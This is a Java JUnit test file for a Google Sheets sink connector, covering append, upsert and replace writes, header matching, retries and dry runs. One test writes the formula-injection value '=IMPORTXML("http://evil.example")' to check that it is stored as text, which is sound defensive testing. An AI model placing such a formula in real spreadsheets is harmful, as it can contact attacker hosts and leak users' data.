package io.navette.connector.google.sheets;

import static io.navette.testing.google.GoogleConnection.batch;
import static io.navette.testing.google.GoogleConnection.row;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.navette.connector.Changes;
import io.navette.connector.Chunk;
import io.navette.connector.Committed;
import io.navette.connector.RowWriter;
import io.navette.connector.Settings;
import io.navette.connector.Sink;
import io.navette.connector.Staged;
import io.navette.connector.WriteMode;
import io.navette.failure.Failure;
import io.navette.http.Surroundings;
import io.navette.row.Column;
import io.navette.row.ColumnType;
import io.navette.row.RowBatch;
import io.navette.row.Schema;
import io.navette.testing.google.Exchange.Reply;
import io.navette.testing.google.FakeSpreadsheet;
import io.navette.testing.google.GoogleConnection;
import io.navette.testing.google.GoogleServer;
import java.io.IOException;
import java.math.BigDecimal;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** Rows are written into sheets: behind, by key, or in the place of all. */
final class SheetsSinkTest {
  private static final Schema SCHEMA =
      Schema.of(
          Column.of("id", ColumnType.INTEGER),
          Column.of("name", ColumnType.TEXT),
          Column.of("day", ColumnType.DATE));

  private final FakeSpreadsheet book = new FakeSpreadsheet();
  private final SheetsConnector connector =
      new SheetsConnector(GoogleConnection.context(new Surroundings()), Map.of());

  @SuppressWarnings("NullAway.Init")
  private GoogleServer server;

  @BeforeEach
  void start() throws IOException {
    server = new GoogleServer(book);
  }

  @AfterEach
  void stop() {
    server.close();
  }

  private Settings settings() {
    return GoogleConnection.settings(connector, server, Map.of("spreadsheet", FakeSpreadsheet.ID));
  }

  private Committed write(String sheet, WriteMode mode, RowBatch batch) {
    List<String> key = mode.needsKey() ? List.of("id") : List.of();
    return GoogleConnection.write(connector, settings(), sheet, mode, key, batch);
  }

  /** What a sheet holds, numbers without useless zeros. */
  private List<String> rows(String sheet) {
    return book.rows(sheet).stream()
        .map(row -> String.join(",", row.stream().map(SheetValue::text).toList()))
        .toList();
  }

  @Test
  void aSheetThatIsNotThereIsMadeWithItsHeader() {
    Committed done =
        write(
            "New",
            WriteMode.APPEND,
            batch(SCHEMA, row(1L, "a", "2026-01-31"), row(2L, null, null)));
    assertThat(done.changes()).isEqualTo(Changes.created(2));
    assertThat(rows("New")).containsExactly("id,name,day", "1,a,46053", "2");
    assertThat(book.shown("New", 1, 2)).isEqualTo("DATE");
    write("New", WriteMode.APPEND, batch(SCHEMA, row(3L, "c", null)));
    assertThat(rows("New")).hasSize(4).endsWith("3,c");
    assertThat(GoogleConnection.read(connector, settings(), "New", Map.of()).rows())
        .startsWith("{\"id\":1,\"name\":\"a\",\"day\":\"2026-01-31\"}");
  }

  @Test
  void columnsGoWhereTheirHeaderStandsAndOthersStay() {
    book.sheet("Stock", row("note", "name", "id"), row("keep", "old", 1), row("mine", "same", 2));
    Schema two = Schema.of(Column.of("id", ColumnType.INTEGER), Column.of("name", ColumnType.TEXT));
    Committed done =
        write(
            "Stock",
            WriteMode.UPSERT,
            batch(two, row(1L, "new"), row(2L, "same"), row(3L, "c"), row(3L, "d")));
    assertThat(done.changes()).isEqualTo(new Changes(1, 1, 1, 0));
    assertThat(rows("Stock")).containsExactly("note,name,id", "keep,new,1", "mine,same,2", ",d,3");
    Committed again = write("Stock", WriteMode.UPSERT, batch(two, row(1L, "new"), row(3L, "d")));
    assertThat(again.changes()).isEqualTo(new Changes(0, 0, 2, 0));
  }

  @Test
  void keysThatNameNoOneRowAreRefused() {
    book.sheet("Twice", row("id", "name", "day"), row(1, "a"), row(1, "b"), row("2", "text"));
    Committed done =
        write(
            "Twice",
            WriteMode.UPSERT,
            batch(SCHEMA, row(1L, "x", null), row(null, "y", null), row(2L, "z", null)));
    assertThat(done.rejections())
        .extracting(rejection -> rejection.reason())
        .containsExactly(
            "the key stands in several rows of the sheet: 2, 3", "the key column id is empty");
    // A 2 that is a text is the same key.
    assertThat(rows("Twice")).containsExactly("id,name,day", "1,a", "1,b", "2,z");
  }

  @Test
  void aReplacedSheetKeepsItsPlaceAndChangesAtOnce() {
    book.sheet("All", row("old", "x"), row(1, 2), row(3, 4), row(5, 6)).sheet("Other", row("a"));
    Committed done = write("All", WriteMode.REPLACE, batch(SCHEMA, row(9L, "z", "2026-01-31")));
    assertThat(done.changes()).isEqualTo(new Changes(1, 0, 0, 3));
    assertThat(rows("All")).containsExactly("id,name,day", "9,z,46053");
    assertThat(book.shown("All", 1, 2)).isEqualTo("DATE");
    assertThat(book.titles()).containsExactly("All", "Other");
    write("All", WriteMode.REPLACE, batch(SCHEMA));
    assertThat(rows("All")).containsExactly("id,name,day");
  }

  @Test
  void aReplaceThatFailsLeavesTheSheetAsItWas() {
    book.sheet("All", row("id"), row(1));
    server.refuse("values:batchUpdate", Reply.error(400, "INVALID_ARGUMENT", "bad", "no"));
    assertThatThrownBy(() -> write("All", WriteMode.REPLACE, batch(SCHEMA, row(9L, "z", null))))
        .isInstanceOf(Failure.Data.class);
    assertThat(rows("All")).containsExactly("id", "1");
    // What was left is cleared away, and not seen as a stream.
    assertThat(book.titles()).hasSize(2);
    try (var source = connector.openSource(settings())) {
      assertThat(source.streamNames()).containsExactly("All");
    }
    write("All", WriteMode.REPLACE, batch(SCHEMA, row(9L, "z", null)));
    assertThat(rows("All")).containsExactly("id,name,day", "9,z");
    assertThat(book.titles()).containsExactly("All");
  }

  @Test
  void manyRowsAreSentInRequestsOfTwoMegabytes() {
    @Nullable Object[][] rows = new Object[60][];
    for (int i = 0; i < rows.length; i++) {
      rows[i] = row((long) i, "x".repeat(49_000), null);
    }
    book.sheet("Big", row("id", "name", "day"));
    write("Big", WriteMode.APPEND, batch(SCHEMA, rows));
    assertThat(server.count("POST", ":append")).isEqualTo(2);
    assertThat(book.rows("Big")).hasSize(61);
    write("Big", WriteMode.REPLACE, batch(SCHEMA, rows));
    assertThat(server.count("POST", "values:batchUpdate")).isEqualTo(2);
    assertThat(book.rows("Big")).hasSize(61);
  }

  @Test
  void whatLooksLikeAFormulaIsATextUnlessFormulasAreAskedFor() {
    Schema text = Schema.of(Column.of("id", ColumnType.TEXT));
    book.sheet("F", row("id"));
    write("F", WriteMode.APPEND, batch(text, row("=IMPORTXML(\"http://evil.example\")")));
    assertThat(book.formula("F", 1, 0)).isEmpty();
    assertThat(rows("F")).endsWith("=IMPORTXML(\"http://evil.example\")");
    Settings entered = new Settings("s", Map.of("value_input", "user_entered"));
    for (WriteMode mode : List.of(WriteMode.APPEND, WriteMode.REPLACE)) {
      try (Sink sink = connector.openSink(settings());
          RowWriter writer =
              sink.write(GoogleConnection.request("F", text, mode, List.of(), entered))) {
        writer.write(batch(text, row("=6*7")));
        writer.commit(new Chunk("r", 1, 1, 1, Optional.empty(), true));
      }
      assertThat(book.formula("F", book.rows("F").size() - 1, 0)).isEqualTo("=6*7");
    }
  }

  @Test
  void whatSheetsWouldRoundIsAText() {
    Schema exact =
        Schema.of(
            Column.of("whole", ColumnType.INTEGER),
            Column.of("exact", ColumnType.DECIMAL),
            Column.of("at", ColumnType.DATETIME),
            Column.of("point", ColumnType.INSTANT),
            Column.of("yes", ColumnType.BOOLEAN));
    write(
        "Exact",
        WriteMode.APPEND,
        batch(
            exact,
            row(
                9_007_199_254_740_993L,
                new BigDecimal("0.1234567890123456"),
                "2026-01-31T12:00:00.000001",
                "2026-01-31T12:00:00Z",
                true),
            row(7L, new BigDecimal("0.5"), "2026-01-31T12:00:00.5", null, null)));
    assertThat(book.rows("Exact").get(1))
        .containsExactly(
            "9007199254740993",
            "0.1234567890123456",
            "2026-01-31T12:00:00.000001",
            "2026-01-31T12:00:00Z",
            true);
    assertThat(GoogleConnection.read(connector, settings(), "Exact", Map.of()).rows().get(1))
        .contains("\"whole\":\"7\"", "\"exact\":\"0.5\"", "\"at\":\"2026-01-31T12:00:00.5\"");
  }

  @Test
  void aTextThatNoCellTakesIsRefusedAlone() {
    book.sheet("T", row("id", "name", "day"));
    Committed done =
        write(
            "T",
            WriteMode.APPEND,
            batch(SCHEMA, row(1L, "x".repeat(50_001), null), row(2L, "ok", null)));
    assertThat(done.rejections())
        .singleElement()
        .satisfies(
            rejection -> {
              assertThat(rejection.reason()).contains("50001 characters");
              assertThat(rejection.column()).contains("name");
            });
    assertThat(rows("T")).containsExactly("id,name,day", "2,ok");
  }

  @Test
  void anAppendWhoseAnswerGotLostIsNotRepeated() {
    book.sheet("Log", row("id", "name", "day"), row(1, "a"));
    server.lose(":append");
    Committed done = write("Log", WriteMode.APPEND, batch(SCHEMA, row(2L, "b", "2026-01-31")));
    assertThat(done.changes()).isEqualTo(Changes.created(1));
    assertThat(rows("Log")).containsExactly("id,name,day", "1,a", "2,b,46053");
    assertThat(server.count("POST", ":append")).isEqualTo(1);
  }

  @Test
  void anAppendThatNeverArrivedIsSentAgain() {
    book.sheet("Log", row("id", "name", "day"), row(1, "a"));
    server.refuse(":append", Reply.error(503, "UNAVAILABLE", "backendError", "try again"));
    write("Log", WriteMode.APPEND, batch(SCHEMA, row(2L, "b", null)));
    assertThat(rows("Log")).containsExactly("id,name,day", "1,a", "2,b");
    assertThat(server.count("POST", ":append")).isEqualTo(2);
  }

  @Test
  void aSwapWhoseAnswerGotLostIsSeenToBeDone() {
    book.sheet("All", row("id"), row(1));
    write("All", WriteMode.REPLACE, batch(SCHEMA, row(5L, "e", null)));
    // Of the requests of the next replace, the last.
    long before = server.count("POST", FakeSpreadsheet.ID + ":batchUpdate");
    server.lose(":batchUpdate");
    assertThatThrownBy(() -> write("All", WriteMode.REPLACE, batch(SCHEMA, row(6L, "f", null))))
        .isInstanceOf(Failure.Remote.class);
    assertThat(rows("All")).containsExactly("id,name,day", "5,e");
    assertThat(server.count("POST", FakeSpreadsheet.ID + ":batchUpdate")).isEqualTo(before + 1);
  }

  @Test
  void nothingChangesBeforeTheLastChunkAndADryRunTellsWhatWould() {
    book.sheet("Stock", row("id", "name", "day"), row(1, "a"), row(2, "b"));
    try (Sink sink = connector.openSink(settings());
        RowWriter writer =
            sink.write(
                GoogleConnection.request(
                    "Stock",
                    SCHEMA,
                    WriteMode.UPSERT,
                    List.of("id"),
                    new Settings("s", Map.of())))) {
      writer.write(batch(SCHEMA, row(1L, "x", null), row(2L, "b", null), row(3L, "c", null)));
      assertThat(writer.commit(new Chunk("r", 1, 1, 1, Optional.empty(), false)).changes())
          .isEqualTo(Changes.NONE);
      assertThat(((Staged) writer).pending()).isEqualTo(new Changes(1, 1, 1, 0));
      assertThat(((Staged) writer).targetRows()).isEqualTo(2);
      ((Staged) writer).discard();
      assertThat(((Staged) writer).pending()).isEqualTo(Changes.NONE);
    }
    assertThat(rows("Stock")).containsExactly("id,name,day", "1,a", "2,b");
    assertThat(server.seen()).allMatch(request -> request.method().equals("GET"));
  }

  @Test
  void aHeaderThatDoesNotFitIsSaidBeforeAnythingIsSent() {
    book.sheet("Short", row("id"), row(1)).sheet("Twice", row("id", "name", "name", "day"));
    assertThatThrownBy(() -> write("Short", WriteMode.APPEND, batch(SCHEMA)))
        .isInstanceOf(Failure.Configuration.class)
        .hasMessageContaining("sheet Short: the header has no column name, day");
    assertThatThrownBy(() -> write("Twice", WriteMode.APPEND, batch(SCHEMA)))
        .isInstanceOf(Failure.Configuration.class)
        .hasMessageContaining("two columns are called name");
    Settings narrow = new Settings("s", Map.of("range", "A:B"));
    try (Sink sink = connector.openSink(settings())) {
      assertThatThrownBy(
              () ->
                  sink.write(
                      GoogleConnection.request(
                          "Short", SCHEMA, WriteMode.REPLACE, List.of(), narrow)))
          .hasMessageContaining("3 columns are more than range has room for");
    }
    assertThat(book.rows("Short")).hasSize(2);
  }
}
